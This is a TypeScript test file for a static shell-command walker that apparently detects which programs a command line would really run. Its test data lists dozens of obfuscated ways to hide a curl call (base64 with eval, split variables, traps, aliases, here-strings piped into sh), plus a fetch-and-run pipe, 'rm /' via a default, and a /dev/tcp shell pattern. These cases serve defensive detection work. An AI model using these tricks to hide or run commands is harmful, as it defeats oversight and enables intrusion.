// What the walk reports for a shell program: every program in run order, with the words it would get.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the text is a shell's, not a template

import { describe, expect, it } from "vitest";
import { newBudget } from "../../../src/core/shell/budget.ts";
import { environmentOf } from "../../../src/core/shell/environment.ts";
import type { Invocation } from "../../../src/core/shell/invocation.ts";
import { AT_START } from "../../../src/core/shell/parse.ts";
import { type Visitor, walkShell } from "../../../src/core/shell/walk.ts";
import { display } from "../../../src/core/shell/word.ts";

function walked(command: string): readonly string[] {
  const lines: string[] = [];
  const visitor: Visitor = {
    invocation: (invocation) => lines.push(line(invocation)),
    redirect: ({ kind, target }, { content }) => {
      const text = content?.map((piece) => (piece.kind === "unknown" ? piece.source : piece.text)).join("");
      lines.push(`${kind} ${display(target)}${text === undefined ? "" : ` ${JSON.stringify(text)}`}`);
    },
    assignment: () => {},
    dynamic: ({ program }) => lines.push(`dynamic ${display(program)}`),
    problem: ({ kind }) => lines.push(`problem ${kind}`),
    contentOf: () => undefined,
    sourced: () => undefined,
    originOf: (word) => ({ kind: "fixed", span: word.span }),
  };
  const environment = environmentOf({ env: {}, home: "/home/ada", cwd: "/shop" });
  const frame = { environment, stdin: { kind: "inherited" as const } };
  walkShell(command, { frame, origin: AT_START }, { visitor, budget: newBudget() });
  return lines;
}

function line({ program, args, stdin, cwd }: Invocation): string {
  const words = [program, ...args].map(display).join(" ");
  const input =
    stdin.kind === "text"
      ? ` << ${JSON.stringify(display(stdin.word))}`
      : stdin.kind === "pipe"
        ? ` <| ${stdin.from ?? "?"}`
        : "";
  return `${words}${input}${cwd === "/shop" ? "" : ` @ ${cwd ?? "?"}`}`;
}

/** The last program that a command line comes down to. */
const COMES_DOWN_TO: readonly (readonly [command: string, last: string])[] = [
  ["cu\\\nrl x", "curl x"],
  ["c=cu; d=rl; $c$d http://a.example", "curl http://a.example"],
  ["$(echo cu)rl x", "curl x"],
  ["cu$@rl x", "curl x"],
  ["${x:-curl} a", "curl a"],
  ["$'\\x63url' a", "curl a"],
  ["'cu'\"r\"l a", "curl a"],
  ['a=(curl -s x); "${a[@]}"', "curl -s x"],
  ["echo 'lruc' | rev | cat; $(echo lruc | rev) x", "curl x"],
  ["x=$(printf '%s%s' cu rl); $x y", "curl y"],
  ['eval "$(echo Y3VybCB4 | base64 -d)"', "curl x"],
  ["IFS=,; x=curl,y; $x", "curl y"],
  ['f() { curl "$1"; }; f a', "curl a"],
  ["alias g='curl -s'; g x", "curl -s x"],
  ["trap 'curl x' EXIT", "curl x"],
  ["exec -a name curl x", "curl x"],
  ["builtin command -p curl x", "curl x"],
  ["while read l; do $l; done <<< 'curl x'", 'curl x << "curl x\\n"'],
  ["x=curl; y=x; ${!y} z", "curl z"],
  ["x=xcurlx; y=${x#x}; ${y%x} z", "curl z"],
  ["x=cUrL; ${x,,} z", "curl z"],
  ["set -- curl a; $1 $2", "curl a"],
  ["[[ 'a[$(curl x)]' -eq 0 ]]", "curl x"],
  ["x='a[$(curl x)]'; echo $((x)) >/dev/null; : $((x))", "curl x"],
  ["coproc curl x", "curl x <| ?"],
  ["(cd /tmp; curl x)", "curl x @ /tmp"],
  ["cd /tmp && curl x", "curl x @ /tmp"],
  ['cd "$dir" && curl x', "curl x @ ?"],
  ["rm ${x:-/}", "rm /"],
  ["echo {a,b}{1..2} ~/z", "echo a1 a2 b1 b2 /home/ada/z"],
  ["x=1; x=$((x + 1)); echo $x", "echo 2"],
  ['git commit -m "$msg"', "git commit -m $msg"],
  ["curl$IFS'x'", "curl x"],
  ["${PATH:0:1}bin/curl x", "/bin/curl x"],
  ["IFS=, read a b <<< 'curl,x'; $a $b", "curl x"],
  ["declare -n r=v; v=curl; $r x", "curl x"],
  ["hash -p /usr/bin/curl q; q x", "/usr/bin/curl x"],
  ["$(command -v curl) x", "/usr/bin/curl x"],
  ["$(env printf curl) x", "curl x"],
  ["$(printf 'a\\ncurl\\n' | tail -n +2) x", "curl x"],
  ["$(echo x curl | awk '{print $2}') x", "curl x"],
  ["trap f EXIT; f() { curl x; }", "curl x"],
  ["trap 'trap \"curl x\" EXIT' EXIT", "curl x"],
  ["true | { trap 'curl x' EXIT; }", 'curl x << ""'],
  ["exec 3<<< 'curl x'; sh <&3", 'sh << "curl x\\n"'],
  ["exec {in}<<< 'curl x'; sh <&$in", 'sh << "curl x\\n"'],
  ["exec <<< 'curl x'; sh", 'sh << "curl x\\n"'],
  ["sh <&7", "sh <| ?"],
  ["exec 5<>/dev/tcp/a.example/80; sh <&5", "sh <| ?"],
];

describe("walk", () => {
  it.each(COMES_DOWN_TO)("%s comes down to %s", (command, last) => {
    expect(walked(command).at(-1)).toBe(last);
  });

  it("feeds a here-document to the program that reads it", () => {
    expect(walked("cat <<EOF | sh\ncurl x\nEOF").at(-1)).toBe('sh << "curl x\\n"');
  });

  it("names the program whose output cannot be computed", () => {
    expect(walked("curl x | gunzip | sh")).toEqual(["curl x", "gunzip <| curl", "sh <| curl"]);
  });

  it("knows what a redirect would write", () => {
    expect(walked("echo hi > /tmp/x")).toEqual(["echo hi", 'write /tmp/x "hi\\n"']);
  });

  it("takes both branches and keeps both values", () => {
    const lines = walked("if a; then P=python3; else P=node; fi; $P x");
    expect(lines).toContain("python3 x");
    expect(lines).toContain("node x");
  });

  it("gives each temporary file a name of its own", () => {
    const names = walked("touch $(mktemp); touch $(mktemp -d)").filter((entry) => entry.startsWith("touch"));
    expect(names).toEqual([...new Set(names)]);
    for (const name of names) expect(name).toMatch(/^touch \/tmp\/tmp\.\d{6}$/);
    expect(names).toHaveLength(2);
  });

  it("keeps a subshell's changes inside it", () => {
    expect(walked("(x=curl; cd /tmp); ${x}a")).toContain("dynamic ${x}a");
  });

  const RAISES: readonly (readonly [command: string, raised: string])[] = [
    ["$x y", "dynamic $x"],
    ["/bin/c?rl x", "dynamic /bin/c?rl"],
    ["$(curl x)", "dynamic $(curl x)"],
    ["$(<file)", "dynamic $(<file)"],
    ["x=$1; c${y}url z", "dynamic c${y}url"],
    ["=curl x", "problem foreign-syntax"],
    ["noglob curl x", "problem foreign-syntax"],
    ["repeat 3 curl x", "problem foreign-syntax"],
    ["echo *(e:'curl x':)", "problem foreign-syntax"],
    ["echo ${(e)x}", "problem foreign-syntax"],
    ["echo a\u202eb", "problem foreign-syntax"],
    ["a=$(b", "problem unparsed"],
    ["a() { a; }; a", "problem too-deep"],
    [`: ${"x".repeat(70_000)}`, "problem too-large"],
    ["echo {1..9}{1..9}{1..9}{1..9}", "problem too-deep"],
    [
      "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do for j in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do for k in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do a; done; done; done",
      "problem too-deep",
    ],
  ];

  it.each(RAISES)("%s raises: %s", (command, raised) => {
    expect(walked(command)).toContain(raised);
  });

  it("does not raise for unknown arguments", () => {
    for (const command of ['cat "$f"', 'for f in *.txt; do wc -l "$f"; done', "ls $(date +%F)", "echo '👩‍💻'"]) {
      expect(walked(command).filter((entry) => /^(?:dynamic|problem)/.test(entry))).toEqual([]);
    }
  });
});
